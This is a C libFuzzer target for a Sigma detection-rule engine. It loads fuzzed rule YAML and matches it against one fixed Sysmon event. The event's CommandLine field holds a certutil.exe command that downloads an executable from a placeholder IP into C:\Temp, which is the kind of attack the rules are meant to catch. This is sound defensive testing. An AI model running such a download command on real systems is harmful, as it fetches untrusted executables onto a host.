/* Fuzz target: Sigma rule YAML (rules are attacker-controlled too) through
 * loading, compiling, and matching one fixed event. */
#include <stdint.h>
#include <string.h>

#include "plainsight.h"

int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size);

int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size)
{
    ps_sigma_set *set = NULL;
    if (ps_sigma_load_text((const char *)data, size, "fuzz.yml", NULL, &set, NULL) != PS_OK ||
        !set)
        return 0;
#define FIELD(path, value, kind) \
    {path, strrchr(path, '.') + 1, value, sizeof path - 1, \
     (uint32_t)strlen(strrchr(path, '.') + 1), sizeof value - 1, kind}
    const ps_field fields[] = {
        FIELD("Event.System.EventID", "1", PS_KIND_INT),
        FIELD("Event.System.Channel", "Microsoft-Windows-Sysmon/Operational", PS_KIND_STRING),
        FIELD("Event.EventData.CommandLine",
              "certutil.exe -urlcache -split -f http://203.0.113.5/a.exe C:\\Temp\\a.exe",
              PS_KIND_STRING),
        FIELD("Event.EventData.Image", "C:\\Windows\\System32\\certutil.exe", PS_KIND_STRING),
    };
    ps_event ev = {.fields = fields, .nfields = 4, .event_id = 1,
                   .channel = "Microsoft-Windows-Sysmon/Operational", .computer = "",
                   .provider = "", .source = "fuzz"};
    ps_sigma_scratch *scratch = ps_sigma_scratch_new(set);
    if (scratch) {
        ps_sigma_match(set, scratch, &ev, NULL, NULL);
        ps_sigma_scratch_free(scratch);
    }
    ps_sigma_free(set);
    return 0;
}
